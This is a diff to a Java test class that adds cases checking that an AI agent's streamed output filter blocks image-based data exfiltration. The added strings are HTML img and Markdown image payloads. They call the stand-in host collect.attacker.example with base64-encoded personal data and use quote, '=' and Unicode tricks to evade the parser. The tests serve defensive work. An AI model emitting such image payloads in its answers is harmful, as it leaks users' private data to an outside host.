@@ -260,6 +260,17 @@ class AgentPresetTest {
                 "<img ='> <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
                 "<img a=b='> <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
                 "<img='> <img alt='>' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                // '=' is a plain character where no value starts (a tag name, a value, after a value, after '/')
+                "<img a=b=' c=\"'>\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<div><img =' c=\"'>\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\"></div>",
+                "<img a==' c=\"'>\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<img a=\"x\"=' c=\"'>\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<img/=' c=\"'>\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<img a=b=\" c='\">' src='https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ'>",
+                // a character the view drops or folds before a quote: the quote does not open a value for the parser
+                "<img a=\u200b' c=\"'>\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<img a=\\\" c='\">' src='https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ'>",
+                "<img a\uff1d' c=\"'>\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
                 // an alt text of any length
                 "![" + "a".repeat(510)
                         + "](https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
@@ -393,6 +404,22 @@ class AgentPresetTest {
         StreamOutcome data = stream(inline, 7);
         assertThat(data.blocked()).isNull();
         assertThat(data.received()).isEqualTo(inline);
+    }
+
+    @Test
+    void aStreamedImgWhoseSourceComesAfterTheHoldOrAfterAMarkdownImageIsNotReleased() {
+        String d = "https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ";
+        for (String answer : List.of(
+                // attributes longer than the hold before the source: the tag fails closed
+                "Here you go. <img alt=\"" + "z".repeat(4200) + "\" src=\"" + d + "\"> Thanks.",
+                // a "![" inside the open tag's value does not release the tag
+                "Here you go. <img alt=\"" + "x".repeat(600) + " ![x\" src=\"" + d + "\"> Thanks.",
+                // '=' where it starts no value leaves the tag open for the tokenizer
+                "Here you go. <img a=b=' c=\"'>\" src=\"" + d + "\"> Thanks.")) {
+            StreamOutcome out = stream(answer, 5);
+            assertThat(out.blocked()).as(answer.substring(0, 40)).isNotNull();
+            assertThat(out.received()).as(answer.substring(0, 40)).doesNotContain("QWxp");
+        }
     }
 
     @Test
